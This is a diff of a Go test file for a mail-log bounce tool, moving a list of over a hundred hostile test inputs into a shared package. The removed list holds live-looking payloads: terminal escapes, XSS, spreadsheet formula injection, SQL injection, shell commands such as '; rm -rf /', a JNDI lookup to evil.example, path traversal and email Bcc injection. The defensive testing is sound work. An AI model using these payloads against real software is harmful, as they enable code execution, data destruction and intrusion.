@@ -14,82 +14,19 @@ import (
 	"strconv"
 	"strings"
 	"testing"
-	"unicode/utf8"
+
+	"bouncelog/internal/hostile"
 )
-
-// hostile are a hundred texts that a stranger could have logged, or that stand in
-// a file that somebody was talked into using.
-var hostile = []string{
-	// Terminals: colour, title, clipboard, cursor, answers, bells.
-	"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
-	"\x1b[6n", "\x1b[c", "\x1bP$q\"p\x1b\\", "\x1b[?1049h", "\x1b[8m", "\x1bc", "\x9b31m", "\u009b2J", "\u009d0;x\u009c", "\a\a\a", "\b\b\b\b", "\x7f\x7f", "\x0e\x0f", "\x00", "a\x00b",
-	"one\rtwo", "one\vtwo", "one\ftwo", "\x1b", "\xc2", "\xff\xfe\xfd", "\xc0\xaf", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80",
-	// Letters that mislead: other direction, no width, look-alikes, heaps.
-	"\u202egnp.exe", "\u2066\u2067\u2069", "\u200b\u200c\u200d", "\ufeffbom", "\u2028\u2029", "\u00ad", "аррӏе.com", strings.Repeat("\u0301", 200), "\U000e0041\U000e0042", "\ufff9\ufffa\ufffb", "👩‍👩‍👧‍👦", "ﷺ",
-	// HTML and Markdown.
-	"<script>alert(1)</script>", "</td></table><script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<!--", "]]>", "&lt;script&gt;", "&#x3c;b&#x3e;", "</title><h1>", "</style><b>",
-	"[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "| a | b |", "`code`", "# heading", "<http://evil.example>", "\\|", "***", "<iframe src=//evil.example>",
-	// Spreadsheets.
-	"x;=cmd|' /C calc'!A0", "x; \"=1\"", "＝1+1", "x;－1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(1+1)", "=1+1", "\t=1", "\r=1", "\"quoted\"", "a,b;c", "a\tb", "'", "''", "=", "+", "@", "-",
-	// SQL.
-	"'; DROP TABLE attempts; --", "x' OR '1'='1", "\" OR 1=1", "%' --", "%", "_", "\\", "';SELECT load_extension('x')--", "NULL", "0x41", "?1", ":name",
-	// Shells, formats, paths.
-	"$(touch /tmp/bouncelog-owned)", "`id`", "; rm -rf /", "| mail root", "&& reboot", "%s%s%n", "%x", "{{.}}", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "/dev/zero", "-o/tmp/x", "--help", "~root",
-	// What bouncelog itself writes and reads.
-	"{addr} {n} {host}", "{brace}", "(others)", "other", "status=sent (250 Ok)", "to=<a@b.example>, relay=x[1.2.3.4]:25, dsn=2.0.0, status=sent (250)", "message repeated 1000000000 times: [ x ]", "<>", "@", "a@", "@b", "a@b@c",
-	// Sizes and numbers.
-	strings.Repeat("a", 100_000), strings.Repeat("<", 5_000), strings.Repeat("(", 5_000), strings.Repeat("a.", 5_000), strings.Repeat("a@", 2_000), "99999999999999999999", "-1", "1e400", "NaN", "٣", "²",
-	// Header and line injection.
-	"x\\nBcc: all@evil.example", "x\\r\\n.\\r\\n", "=?utf-8?q?=0d=0aBcc:?=", "\n\nNov 23 10:00:00 mx1 postfix/smtp[1]: 4A1B2C3D4E: forged",
-}
-
-// hostileLines puts a text wherever a log has room for a stranger's.
-func hostileLines(i int, s string) string {
-	s = strings.ReplaceAll(s, "\n", "\\n") // a log has it so
-	id := fmt.Sprintf("4A1B2C%04X", i)
-	exim := fmt.Sprintf("1vAAAA-%06d-00", i)
-	return strings.Join([]string{
-		"Nov 23 10:00:00 mx1 postfix/qmgr[1]: " + id + ": from=<" + s + "@sender.example>, size=1, nrcpt=1 (queue active)",
-		"Nov 23 10:00:00 mx1 postfix/cleanup[1]: " + id + ": message-id=<" + s + ">",
-		"Nov 23 10:00:01 mx1 postfix/smtp[1]: " + id + ": to=<" + s + "@rcpt.example>, relay=mx.example[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=5.7.1, status=bounced (host mx.example[192.0.2.1] said: 550 5.7.1 " + s + " (in reply to RCPT TO command))",
-		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<a@" + s + ">, relay=" + s + "[192.0.2.1]:25, delay=1, delays=0/0/0/1, dsn=4.0.0, status=deferred (" + s + ")",
-		"Nov 23 10:00:02 mx1 postfix/smtp[1]: " + id + ": to=<b@ok.example>, orig_to=<" + s + ">, relay=none, delay=1, delays=0/0/0/1, dsn=5.0.0, status=" + s,
-		"Nov 23 10:00:03 " + s + " postfix/smtp[1]: " + id + ": to=<c@ok.example>, relay=none, delay=" + s + ", delays=0/0/0/1, dsn=" + s + ", status=bounced (x)",
-		"Nov 23 10:00:03 mx1 " + s + "[1]: " + s,
-		"2026-11-23 10:00:04 " + exim + " ** " + s + "@exim.example R=dns T=remote_smtp H=" + s + " [192.0.2.1]: SMTP error from remote mail server after RCPT TO:<" + s + ">: 550 " + s,
-		"2026-11-23 10:00:04 " + exim + " == x@exim.example R=" + s + " T=" + s + " defer (" + s + "): " + s,
-		"2026-11-23 10:00:04 " + exim + " <= " + s + " H=" + s + " [192.0.2.9] P=esmtp S=1 id=" + s,
-		s,
-	}, "\n") + "\n"
-}
 
 // attempt runs bouncelog in this process; a panic fails the test.
 func attempt(t *testing.T, ctx context.Context, stdin string, args ...string) (status int, stdout, stderr string) {
 	t.Helper()
 	var out, errs bytes.Buffer
 	status = run(ctx, args, strings.NewReader(stdin), &out, &errs)
-	if what := unclean(errs.String()); what != "" {
+	if what := hostile.Unclean(errs.String()); what != "" {
 		t.Errorf("bouncelog %.200q: standard error has %s:\n%.500q", args, what, errs.String())
 	}
 	return status, out.String(), errs.String()
-}
-
-// unclean says what in an output could reach a terminal that must not; "" where
-// nothing.
-func unclean(s string) string {
-	if !utf8.ValidString(s) {
-		return "invalid UTF-8"
-	}
-	for _, r := range s {
-		switch {
-		case r == '\n', r == '\t':
-		case r < 0x20, 0x7f <= r && r < 0xa0:
-			return fmt.Sprintf("the control character %U", r)
-		case 0x202a <= r && r <= 0x202e, 0x2066 <= r && r <= 0x2069, r == 0x2028, r == 0x2029:
-			return fmt.Sprintf("the character %U", r)
-		}
-	}
-	return ""
 }
 
 var tag = regexp.MustCompile(`<[/!]?[a-zA-Z][^\s>]*`)
@@ -101,14 +38,14 @@ func TestHostile(t *testing.T) {
 	if testing.Short() {
 		t.Skip("some thousand runs")
 	}
-	if len(hostile) < 100 {
-		t.Fatalf("only %d texts", len(hostile))
+	if len(hostile.Texts) < 100 {
+		t.Fatalf("only %d texts", len(hostile.Texts))
 	}
 	dir := t.TempDir()
 	log, db := filepath.Join(dir, "mail.log"), filepath.Join(dir, "test.db")
 	var text strings.Builder
-	for i, s := range hostile {
-		text.WriteString(hostileLines(i, s))
+	for i, s := range hostile.Texts {
+		text.WriteString(hostile.Lines(i, s))
 	}
 	if err := os.WriteFile(log, []byte(text.String()), 0o600); err != nil {
 		t.Fatal(err)
@@ -124,8 +61,8 @@ func TestHostile(t *testing.T) {
 		return strings.TrimSpace(n)
 	}
 	stored := count(db)
-	if n, err := strconv.Atoi(stored); err != nil || n < 3*len(hostile) {
-		t.Errorf("%s attempts of %d texts are stored: the test is broken", stored, len(hostile))
+	if n, err := strconv.Atoi(stored); err != nil || n < 3*len(hostile.Texts) {
+		t.Errorf("%s attempts of %d texts are stored: the test is broken", stored, len(hostile.Texts))
 	}
 
 	t.Run("follow", func(t *testing.T) {
@@ -141,14 +78,14 @@ func TestHostile(t *testing.T) {
 		if status := <-done; status != exitOK {
 			t.Errorf("exit status %d", status)
 		}
-		if what := unclean(out.String()); what != "" {
+		if what := hostile.Unclean(out.String()); what != "" {
 			t.Errorf("follow says %s", what)
 		}
 	})
 
 	// The HTML of a harmless log has the tags that there may be.
 	harmless := filepath.Join(dir, "harmless.log")
-	if err := os.WriteFile(harmless, []byte(hostileLines(1, "harmless")), 0o600); err != nil {
+	if err := os.WriteFile(harmless, []byte(hostile.Lines(1, "harmless")), 0o600); err != nil {
 		t.Fatal(err)
 	}
 	allowed := map[string]bool{}
@@ -162,7 +99,7 @@ func TestHostile(t *testing.T) {
 	}
 	check := func(t *testing.T, format, out string) {
 		t.Helper()
-		if what := unclean(out); what != "" {
+		if what := hostile.Unclean(out); what != "" {
 			t.Errorf("%s has %s", format, what)
 		}
 		switch format {
@@ -225,7 +162,7 @@ func TestHostile(t *testing.T) {
 	}
 
 	t.Run("arguments", func(t *testing.T) {
-		for _, s := range hostile {
+		for _, s := range hostile.Texts {
 			for _, args := range [][]string{
 				{"explain", "--", s},
 				{"explain", "--", "550 5.7.1 " + s},
@@ -247,7 +184,7 @@ func TestHostile(t *testing.T) {
 				if status == 2 || status < 0 {
 					t.Errorf("%.100q: exit status %d", args, status)
 				}
-				if what := unclean(out); what != "" {
+				if what := hostile.Unclean(out); what != "" {
 					t.Errorf("%.100q prints %s", args, what)
 				}
 			}
@@ -260,7 +197,7 @@ func TestHostile(t *testing.T) {
 			check(t, format, out)
 		}
 		var objects strings.Builder
-		for _, s := range hostile {
+		for _, s := range hostile.Texts {
 			line, err := json.Marshal(map[string]any{"mta": s, "recipient": s, "relay_host": s, "response": s, "code": 550, "stage": s, "outcome": s, "enhanced": s})
 			if err != nil {
 				t.Fatal(err)
@@ -276,12 +213,12 @@ func TestHostile(t *testing.T) {
 
 	t.Run("files", func(t *testing.T) {
 		file := filepath.Join(dir, "file.toml")
-		for _, s := range hostile {
+		for _, s := range hostile.Texts {
 			for _, text := range []string{s, s + " = 1", "tz = " + strconv.Quote(s), "[" + s + "]", "[follow]\n" + strconv.Quote(s) + " = 1"} {
 				if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
 					t.Fatal(err)
 				}
-				if status, out, _ := attempt(t, ctx, "", "--config", file, "config"); status != exitUsage && status != exitOK || unclean(out) != "" {
+				if status, out, _ := attempt(t, ctx, "", "--config", file, "config"); status != exitUsage && status != exitOK || hostile.Unclean(out) != "" {
 					t.Errorf("configuration %.100q: exit status %d", text, status)
 				}
 			}
